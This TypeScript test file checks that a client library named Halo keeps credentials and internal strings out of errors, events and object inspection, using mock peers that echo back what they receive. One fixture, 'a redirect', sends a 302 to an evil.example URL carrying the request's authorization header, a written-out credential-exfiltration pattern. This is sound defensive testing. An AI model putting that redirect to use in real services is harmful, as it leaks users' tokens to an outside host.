import { inspect } from 'node:util';
import { describe, expect, it } from 'vitest';
import { ticket } from '../src/index.ts';
import { canary, makeBench } from './make-client.ts';
import { type PeerAnswer, sendJson, sendToken } from './peer.ts';

const bearer = 'canary-5b7e9a-token';
const words = 'canary-words-of-halo';

/** A peer that gives everything away: whatever was sent comes back in its answers. */
const echoes: readonly (readonly [string, PeerAnswer, PeerAnswer])[] = [
  [
    'a refused sign-in',
    (_, to) => sendJson(to, {}),
    ({ body }, to) => sendJson(to, { error: 'invalid_client', error_description: body, words }, { status: 400 }),
  ],
  ['an unknown refusal', (_, to) => sendJson(to, {}), ({ body }, to) => sendJson(to, { error: body }, { status: 400 })],
  [
    'a sign-in page',
    (_, to) => sendJson(to, {}),
    ({ body }, to) => to.writeHead(200, { 'content-type': 'text/html' }).end(`<form>${body} password`),
  ],
  [
    'a broken token',
    (_, to) => sendJson(to, {}),
    ({ body }, to) => to.writeHead(200, { 'content-type': 'application/json' }).end(`{"access_token":"${body}`),
  ],
  [
    'a refused question',
    ({ headers }, to) => sendJson(to, { Message: `${words} ${headers.authorization}` }, { status: 400 }),
    (_, to) => sendToken(to, { access_token: bearer }),
  ],
  [
    'a failing server',
    ({ headers }, to) => sendJson(to, { Message: `${words} ${headers.authorization}` }, { status: 500 }),
    (_, to) => sendToken(to, { access_token: bearer }),
  ],
  [
    'a second 401',
    ({ headers }, to) => sendJson(to, { error: headers.authorization }, { status: 401 }),
    (_, to) => sendToken(to, { access_token: bearer }),
  ],
  [
    'broken JSON',
    ({ headers }, to) => to.writeHead(200, { 'content-type': 'application/json' }).end(`{"a":"${headers.authorization} ${words}`),
    (_, to) => sendToken(to, { access_token: bearer }),
  ],
  [
    'a redirect',
    ({ headers }, to) => to.writeHead(302, { location: `https://evil.example/?t=${headers.authorization}` }).end(),
    (_, to) => sendToken(to, { access_token: bearer }),
  ],
  [
    'another shape',
    ({ headers }, to) => sendJson(to, { text: `${words} ${headers.authorization}` }),
    (_, to) => sendToken(to, { access_token: bearer }),
  ],
];

describe("S79, S88: secrets and Halo's own words", () => {
  it.each(echoes)('%s: neither in errors, nor in their causes, nor in what is told', async (_, answer, token) => {
    const { halo, events } = await makeBench(answer, { token });
    const thrown: unknown[] = [];
    const catching = async (work: Promise<unknown>) => {
      await work.then(
        () => undefined,
        (error: unknown) => thrown.push(error),
      );
    };
    await catching(halo.signIn());
    await catching(halo.get('Client', { search: 'x' }));
    await catching(halo.listPages(ticket)[Symbol.asyncIterator]().next());
    await catching(halo.writer().create(ticket, { summary: words }));
    expect(thrown.length).toBeGreaterThan(0);
    const told =
      thrown.map((error) => inspect(error, { depth: 20, showHidden: true }) + JSON.stringify(error)).join('\n') +
      JSON.stringify(events);
    for (const secret of [canary, bearer]) expect(told).not.toContain(secret);
    const shown =
      thrown.map((error) => inspect(error, { depth: 20 }) + JSON.stringify(error)).join('\n') + JSON.stringify(events);
    expect(shown).not.toContain(words);
  });

  it('a client shows no secret when it is looked at', async () => {
    const { halo } = await makeBench((_, to) => sendJson(to, []), { token: (_, to) => sendToken(to, { access_token: bearer }) });
    await halo.get('Status');
    const shown = inspect(halo, { depth: 20, showHidden: true }) + JSON.stringify(halo) + JSON.stringify(await halo.signIn());
    for (const secret of [canary, bearer]) expect(shown).not.toContain(secret);
  });
});
